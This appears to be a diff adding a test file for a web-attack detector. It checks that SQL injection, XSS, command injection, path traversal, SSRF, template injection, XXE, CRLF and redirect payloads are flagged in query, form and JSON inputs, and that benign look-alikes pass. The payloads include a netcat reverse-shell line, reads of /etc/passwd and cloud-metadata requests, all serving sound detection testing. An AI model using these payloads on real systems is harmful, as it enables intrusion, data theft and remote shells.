@@ -1,0 +1,104 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { AttackDetector } from '../../../node/analysis/attacks';
+import type { AttackClass } from '../../../node/report/records';
+import { RELAXED, tx, type TxSpec } from './helpers';
+
+const HOST: [string, string] = ['Host', 'shop.example'];
+
+/** The value in a query parameter, a form field and a JSON field. */
+function inPoints(name: string, value: string): TxSpec[] {
+  return [
+    { target: `/p?${name}=${encodeURIComponent(value)}` },
+    { method: 'POST', target: '/p', headers: [HOST, ['Content-Type', 'application/x-www-form-urlencoded']], body: `${name}=${encodeURIComponent(value)}` },
+    { method: 'POST', target: '/p', headers: [HOST, ['Content-Type', 'application/json']], body: JSON.stringify({ data: { [name]: value } }) },
+  ];
+}
+
+const classes = (spec: TxSpec): AttackClass[] => new AttackDetector(RELAXED).detect(tx(spec))?.hits.map((h) => h.class) ?? [];
+
+const ATTACKS: Array<[AttackClass, string, string]> = [
+  ['sqli', 'id', "1' OR '1'='1' --"],
+  ['sqli', 'id', '1 UNION SELECT username, password FROM users'],
+  ['sqli', 'id', "1; DROP TABLE users--"],
+  ['sqli', 'q', "admin'--"],
+  ['xss', 'q', '<script>alert(document.cookie)</script>'],
+  ['xss', 'q', '"><img src=x onerror=alert(1)>'],
+  ['xss', 'q', '" onmouseover="alert(1)'],
+  ['xss', 'q', 'javascript:alert(1)'],
+  ['rce', 'host', '127.0.0.1; cat /etc/passwd'],
+  ['rce', 'host', '$(whoami)'],
+  ['rce', 'host', '`id`'],
+  ['rce', 'host', '| nc -e /bin/sh 10.0.0.1 4444'],
+  ['rce', 'host', '& dir c:\\'],
+  ['ptrav', 'file', '../../../../etc/passwd'],
+  ['ptrav', 'file', '..\\..\\windows\\win.ini'],
+  ['ptrav', 'file', 'file:///etc/passwd'],
+  ['ssrf', 'url', 'http://169.254.169.254/latest/meta-data/'],
+  ['ssrf', 'url', 'http://2130706433/admin'],
+  ['ssrf', 'url', 'gopher://127.0.0.1:6379/_INFO'],
+  ['ssrf', 'url', 'http://[::ffff:127.0.0.1]/'],
+  ['ssti', 'name', '{{7*7}}'],
+  ['ssti', 'name', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
+  ['ssti', 'name', "{{''.__class__.__mro__[1].__subclasses__()}}"],
+  ['ldapi', 'user', '*)(uid=*))(|(uid=*'],
+  ['ldapi', 'user', 'admin)(&(password=*)'],
+  ['nosqli', 'q', "'; return true; var x='"],
+  ['nosqli', 'q', "true, $where: '1 == 1'"],
+  ['xxe', 'doc', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
+  ['crlf', 'lang', 'en\r\nSet-Cookie: admin=1'],
+  ['redir', 'next', 'https://evil.example.net/login'],
+  ['redir', 'return_to', '//evil.example.net'],
+  ['mail_injection', 'email', 'me@example.com\r\nBcc: victim@example.org'],
+  ['ssi', 'page', '<!--#exec cmd="id" -->'],
+];
+
+for (const [cls, name, value] of ATTACKS) {
+  test(`${cls}: ${JSON.stringify(value)} in query, form and JSON`, () => {
+    for (const spec of inPoints(name, value)) assert.ok(classes(spec).includes(cls), `${cls} missed in ${spec.target} ${spec.body ?? ''}`);
+  });
+}
+
+const BENIGN: Array<[string, string]> = [
+  ['name', "O'Reilly"], ['plan', 'select a plan'], ['calc', '1+1'], ['q', 'union station'], ['q', 'drop-down menu'],
+  ['bio', '<b>bold</b> and <i>italic</i>'], ['bio', '<a href="https://example.com/about">about</a>'],
+  ['link', '../images/logo.png'], ['q', 'Tom & Jerry; rock & roll'], ['q', 'cat food | echo dot'],
+  ['url', 'https://www.example.com/search?q=shoes'], ['next', '/account/settings'],
+  ['next', 'https://shop.example/cart'], ['email', 'alice@example.com'], ['q', 'JavaScript: Basics of JavaScript Language'],
+  ['tpl', 'Hello {{name}}'], ['price', '$19.99 (incl. tax)'], ['q', "it's 5 o'clock"], ['note', 'line one\nline two'],
+  ['q', 'Please confirm your email'], ['path', 'C:\\Users\\me\\Documents\\cv.pdf'], ['q', 'where is my order?'],
+];
+
+for (const [name, value] of BENIGN) {
+  test(`benign look-alike ${JSON.stringify(value)} is not an attack`, () => {
+    for (const spec of inPoints(name, value)) assert.deepEqual(classes(spec), [], `${spec.target} ${spec.body ?? ''}`);
+  });
+}
+
+test('ordinary browser, API and bot requests are clean', () => {
+  const uas = [
+    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
+    'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1',
+    'curl/7.88.1', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
+  ];
+  for (const ua of uas) {
+    const headers: Array<[string, string]> = [HOST, ['User-Agent', ua], ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
+      ['Accept-Language', 'en-US,en;q=0.5'], ['Referer', 'http://127.0.0.1:8080/index.html?a=1'], ['Cookie', 'session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark'],
+      ['If-None-Match', 'W/"5e-abc"'], ['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig']];
+    assert.deepEqual(classes({ target: '/api/v1/users/42?fields=name,email&sort=-created_at', headers }), [], ua);
+  }
+});
+
+test('scanner: tool user agents and secrets probes, not ordinary admin pages', () => {
+  assert.ok(classes({ target: '/', headers: [HOST, ['User-Agent', 'sqlmap/1.7.4#stable (https://sqlmap.org)']] }).includes('scanner'));
+  assert.ok(classes({ target: '/', headers: [HOST, ['User-Agent', 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))']] }).includes('scanner'));
+  assert.ok(classes({ target: '/.git/config' }).includes('scanner'));
+  assert.ok(classes({ target: '/.env' }).includes('scanner'));
+  assert.deepEqual(classes({ target: '/wp-login.php' }), []);
+  assert.ok(classes({ target: '/wp-login.php', headers: [HOST, ['User-Agent', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)']] }).includes('scanner'));
+});
+
+test('crlf in the path and in a header-bound query value', () => {
+  assert.ok(classes({ target: '/%0d%0aSet-Cookie:crlf=injection' }).includes('crlf'));
+  assert.ok(classes({ target: '/%E5%98%8DSet-cookie%3Acrlf%3Dinjection' }).includes('crlf'));
+});
